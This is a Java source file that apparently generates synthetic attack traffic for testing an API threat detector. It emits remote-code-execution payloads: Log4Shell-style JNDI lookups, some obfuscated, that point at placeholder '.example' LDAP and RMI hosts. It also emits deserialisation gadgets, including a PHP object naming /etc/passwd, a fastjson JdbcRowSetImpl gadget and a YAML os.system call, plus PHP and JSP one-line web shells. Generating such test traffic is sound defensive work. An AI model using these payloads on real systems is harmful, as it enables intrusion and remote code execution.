package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.Pick;
import java.util.List;
import java.util.SplittableRandom;

/** Code that the server itself would run: look-ups, serialised objects, uploaded shells. */
final class CodeExecution {

    static final List<AttackFamily> FAMILIES = List.of(
            AttackFamily.of("jndi_lookup", ThreatType.RCE, CodeExecution::jndi)
                    .in(Placement.HEADER, Placement.QUERY, Placement.JSON, Placement.FORM),
            AttackFamily.of("serialised_object", ThreatType.RCE, CodeExecution::serialised)
                    .in(Placement.COOKIE, Placement.FORM, Placement.JSON),
            AttackFamily.of("web_shell", ThreatType.RCE, CodeExecution::webShell)
                    .in(Placement.MULTIPART, Placement.FORM),
            AttackFamily.of("jndi_nested", ThreatType.RCE, CodeExecution::nestedJndi)
                    .in(Placement.HEADER, Placement.QUERY)
                    .reservedForSimulation());

    private CodeExecution() {}

    private static String jndi(SplittableRandom r) {
        return "${jndi:" + Pick.one(r, "ldap", "ldaps", "rmi", "dns") + "://" + Pick.letters(r, 6) + ".example/"
                + Pick.letters(r, 3) + "}";
    }

    private static String nestedJndi(SplittableRandom r) {
        return Pick.one(r, "${${lower:j}ndi:", "${${::-j}${::-n}${::-d}${::-i}:", "${j${env:X:-n}di:")
                + Pick.one(r, "ldap", "rmi") + "://" + Pick.letters(r, 6) + ".example/a}";
    }

    private static String serialised(SplittableRandom r) {
        return Pick.one(
                r,
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk" + Pick.letters(r, 6),
                "O:" + Pick.number(r, 4, 20) + ":\"" + Pick.letters(r, 6) + "\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://" + Pick.letters(r, 6)
                        + ".example/a\",\"autoCommit\":true}",
                "!!python/object/apply:os.system [\"id\"]");
    }

    private static String webShell(SplittableRandom r) {
        String name = Pick.letters(r, 3);
        return Pick.one(
                r,
                "<?php system($_GET['" + name + "']); ?>",
                "<?php eval(base64_decode($_POST['" + name + "'])); ?>",
                "<% Runtime.getRuntime().exec(request.getParameter(\"" + name + "\")); %>",
                "<?=`$_GET[" + name + "]`?>");
    }
}
